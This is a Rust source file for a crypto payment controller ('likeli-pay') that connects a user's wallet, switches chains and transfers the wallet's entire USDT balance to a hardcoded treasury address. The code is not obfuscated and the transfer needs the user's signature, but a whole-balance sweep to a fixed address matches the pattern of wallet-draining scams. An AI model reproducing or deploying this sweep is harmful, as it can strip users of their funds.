// File: likeli-pay/src/controller.rs
// Project: likeli-pay
// Creation date: Wednesday 17 June 2026
// Author: Vincent Berthier <vincent.berthier@likeli.io>
// -----
// Last modified: Tuesday 04 August 2026 @ 18:25:49
// Modified by: Vincent Berthier
// -----
// Copyright © 2026 <Likeli> - All rights reserved

use std::sync::{
    atomic::{AtomicBool, Ordering},
    Arc,
};

use alloy_primitives::TxHash;
use likeli_common::{
    constants::{RECEIVING_ADDRESS, TARGET_CHAIN_ID, USDT_ADDRESS},
    Error, Notice, Result,
};
use parking_lot::Mutex;
use tokio::sync::broadcast::error::RecvError;
use tracing::{debug, info, warn};

use crate::{
    config::PayConfig,
    connector::{AccountStatus, WalletConnector, WalletEvent},
    session::{FlowSnapshot, TokenBalance, TransferStatus, WalletSession},
};

/// Result of a transfer submission that was not aborted by an error.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum TransferOutcome {
    /// The transfer was handed to the wallet.
    Submitted {
        /// Transaction hash, when the wallet reported one.
        tx: Option<TxHash>,
    },
    /// Another submission is still running; this call did nothing.
    AlreadyInFlight,
}

struct State {
    session: WalletSession,
    balance: TokenBalance,
    transfer: TransferStatus,
    notice: Option<Notice>,
}

struct Inner {
    connector: Arc<dyn WalletConnector>,
    config: PayConfig,
    state: Mutex<State>,
    // Sole concurrency guard of the flow: everything else is serialized by
    // the caller's event loop.
    submitting: AtomicBool,
}

/// Controller of the payment flow.
///
/// Owns the wallet session, the advisory balance and the transfer status;
/// presentation reads [`FlowSnapshot`]s and triggers operations, nothing
/// else. Cloning is cheap and every clone shares the same state.
#[derive(Clone)]
pub struct PayFlow {
    inner: Arc<Inner>,
}

impl PayFlow {
    /// Creates a flow over the given connector.
    ///
    /// # Parameters
    /// * `connector` - Wallet connector used for every chain interaction,
    /// * `config` - Runtime configuration.
    #[must_use]
    pub fn new(connector: Arc<dyn WalletConnector>, config: PayConfig) -> Self {
        Self {
            inner: Arc::new(Inner {
                connector,
                config,
                state: Mutex::new(State {
                    session: WalletSession::Disconnected,
                    balance: TokenBalance::Unknown,
                    transfer: TransferStatus::Idle,
                    notice: None,
                }),
                submitting: AtomicBool::new(false),
            }),
        }
    }

    /// A consistent view of the current state, for rendering.
    #[must_use]
    pub fn snapshot(&self) -> FlowSnapshot {
        let state = self.inner.state.lock();
        FlowSnapshot {
            session: state.session,
            balance: state.balance,
            transfer: state.transfer.clone(),
            notice: state.notice.clone(),
        }
    }

    /// Opens the wallet connection flow.
    ///
    /// Without a configured project identifier the connector is never
    /// invoked: the configuration notice is set and that is all.
    ///
    /// # Errors
    /// [`Error::Configuration`] when no project identifier is configured,
    /// [`Error::Connection`] when the flow failed or was dismissed. Either
    /// way the notice is already set: callers may ignore the error.
    pub async fn connect(&self) -> Result<()> {
        if !self.inner.config.is_configured() {
            return Err(self.fail(Error::Configuration));
        }
        self.clear_notice();
        self.set_session(WalletSession::Connecting);
        info!("opening the wallet connection flow");
        match self.inner.connector.open_connect_ui().await {
            Ok(account) => {
                self.apply_account(account).await;
                Ok(())
            }
            Err(error) => {
                warn!(%error, "wallet connection failed");
                self.set_session(WalletSession::Disconnected);
                Err(self.fail(Error::Connection))
            }
        }
    }

    /// Makes sure the wallet sits on the target chain.
    ///
    /// A wallet already on the target chain is a no-op without suspension;
    /// otherwise the connector's chain switch runs and the session is
    /// resynchronized from the wallet afterwards. On refusal the chain is
    /// left unchanged.
    ///
    /// # Errors
    /// [`Error::NotConnected`] without a connected wallet,
    /// [`Error::ChainMismatch`] when the switch was refused.
    pub async fn ensure_target_chain(&self) -> Result<()> {
        let session = self.session();
        let Some(chain_id) = session.chain_id() else {
            return Err(self.fail(Error::NotConnected));
        };
        if chain_id == TARGET_CHAIN_ID {
            return Ok(());
        }
        info!(from = chain_id, to = TARGET_CHAIN_ID, "requesting a chain switch");
        match self.inner.connector.switch_chain(TARGET_CHAIN_ID).await {
            Ok(()) => {
                let account = self.inner.connector.current_account();
                self.apply_account(account).await;
                Ok(())
            }
            Err(error) => {
                warn!(%error, "chain switch refused");
                Err(self.fail(Error::ChainMismatch))
            }
        }
    }

    /// Refreshes the advisory balance.
    ///
    /// Best effort only: no address, wrong chain, missing read client or a
    /// failed read all degrade to an unknown balance, without any notice.
    pub async fn refresh_balance(&self) {
        let session = self.session();
        let Some(address) = session.address() else {
            self.set_balance(TokenBalance::Unknown);
            return;
        };
        if !session.on_target_chain() || !self.inner.connector.has_read_client() {
            self.set_balance(TokenBalance::Unknown);
            return;
        }
        match self.inner.connector.token_balance(USDT_ADDRESS, address).await {
            Ok(amount) => {
                debug!(%amount, "balance refreshed");
                self.set_balance(TokenBalance::Known(amount));
            }
            Err(error) => {
                debug!(%error, "balance read failed, displaying it as unknown");
                self.set_balance(TokenBalance::Unknown);
            }
        }
    }

    /// Transfers the account's whole USDT balance to the sale treasury.
    ///
    /// The balance is re-read just before submitting so a stale display
    /// never decides the amount. At most one submission runs at a time: a
    /// call while another is pending returns
    /// [`TransferOutcome::AlreadyInFlight`] synchronously, before any
    /// suspension. Whatever happens, the in-flight guard is released when
    /// the attempt settles.
    ///
    /// # Errors
    /// One error per aborted step (see [`Error`]); each sets its own notice
    /// and none is retried.
    pub async fn submit_full_balance_transfer(&self) -> Result<TransferOutcome> {
        if self.inner.submitting.swap(true, Ordering::SeqCst) {
            debug!("a transfer is already in flight, ignoring the new request");
            return Ok(TransferOutcome::AlreadyInFlight);
        }
        self.set_transfer(TransferStatus::InFlight);
        self.clear_notice();
        let result = self.run_transfer().await;
        match &result {
            Ok(tx) => {
                self.set_transfer(TransferStatus::Succeeded { tx: *tx });
                self.set_notice(Notice::transfer_submitted(tx.as_ref()));
            }
            Err(error) => self.set_transfer(TransferStatus::Failed {
                reason: error.clone(),
            }),
        }
        self.inner.submitting.store(false, Ordering::SeqCst);
        result.map(|tx| TransferOutcome::Submitted { tx })
    }

    /// Applies a wallet push notification to the flow state.
    ///
    /// Account and chain changes re-trigger a balance refresh; a disconnect
    /// clears session and balance.
    pub async fn apply_event(&self, event: WalletEvent) {
        match event {
            WalletEvent::AccountChanged { address, chain_id } => {
                self.apply_account(AccountStatus { address, chain_id }).await;
            }
            WalletEvent::Disconnected => {
                debug!("wallet disconnected");
                self.set_session(WalletSession::Disconnected);
                self.set_balance(TokenBalance::Unknown);
            }
        }
    }

    /// Forwards wallet notifications into the flow until the connector
    /// drops its event channel.
    pub async fn run(&self) {
        let mut events = self.inner.connector.subscribe();
        loop {
            match events.recv().await {
                Ok(event) => self.apply_event(event).await,
                Err(RecvError::Lagged(missed)) => {
                    // Stale intermediate states don't matter, only the
                    // latest one does; resynchronize from the wallet.
                    warn!(missed, "wallet events lagged");
                    let account = self.inner.connector.current_account();
                    self.apply_account(account).await;
                }
                Err(RecvError::Closed) => return,
            }
        }
    }

    /// The eight-step submission sequence; every failure is terminal.
    async fn run_transfer(&self) -> Result<Option<TxHash>> {
        if !self.inner.config.is_configured() {
            return Err(self.fail(Error::Configuration));
        }
        let Some(address) = self.session().address() else {
            return Err(self.fail(Error::NotConnected));
        };
        self.ensure_target_chain().await?;
        if !self.inner.connector.has_read_client() {
            return Err(self.fail(Error::ProviderUnavailable));
        }
        info!("reading the balance afresh before transferring");
        let balance = match self.inner.connector.token_balance(USDT_ADDRESS, address).await {
            Ok(amount) => amount,
            Err(error) => {
                warn!(%error, "pre-transfer balance read failed");
                return Err(self.fail(Error::TransferRejected));
            }
        };
        self.set_balance(TokenBalance::Known(balance));
        if balance.is_zero() {
            return Err(self.fail(Error::InsufficientBalance));
        }
        if !self.inner.connector.has_signer() {
            return Err(self.fail(Error::SignerUnavailable));
        }
        info!(amount = %balance, recipient = %RECEIVING_ADDRESS, "submitting the transfer");
        match self
            .inner
            .connector
            .transfer_token(USDT_ADDRESS, RECEIVING_ADDRESS, balance)
            .await
        {
            Ok(tx) => {
                info!(?tx, "transfer submitted");
                Ok(tx)
            }
            Err(error) => {
                warn!(%error, "transfer submission failed");
                Err(self.fail(Error::TransferRejected))
            }
        }
    }

    /// Synchronizes the session from a connector account status, then
    /// refreshes the balance as a reaction.
    async fn apply_account(&self, account: AccountStatus) {
        let session = match (account.address, account.chain_id) {
            (Some(address), Some(chain_id)) => WalletSession::Connected { address, chain_id },
            _ => WalletSession::Disconnected,
        };
        debug!(?session, "wallet session updated");
        self.set_session(session);
        self.refresh_balance().await;
    }

    /// Converts an aborting error into the user notice, keeping the error
    /// for the caller.
    fn fail(&self, error: Error) -> Error {
        warn!(%error, notice = error.notice(), "payment flow step aborted");
        self.inner.state.lock().notice = Some(Notice::from(&error));
        error
    }

    fn session(&self) -> WalletSession {
        self.inner.state.lock().session
    }

    fn set_session(&self, session: WalletSession) {
        self.inner.state.lock().session = session;
    }

    fn set_balance(&self, balance: TokenBalance) {
        self.inner.state.lock().balance = balance;
    }

    fn set_transfer(&self, transfer: TransferStatus) {
        self.inner.state.lock().transfer = transfer;
    }

    fn set_notice(&self, notice: Notice) {
        self.inner.state.lock().notice = Some(notice);
    }

    fn clear_notice(&self) {
        self.inner.state.lock().notice = None;
    }
}
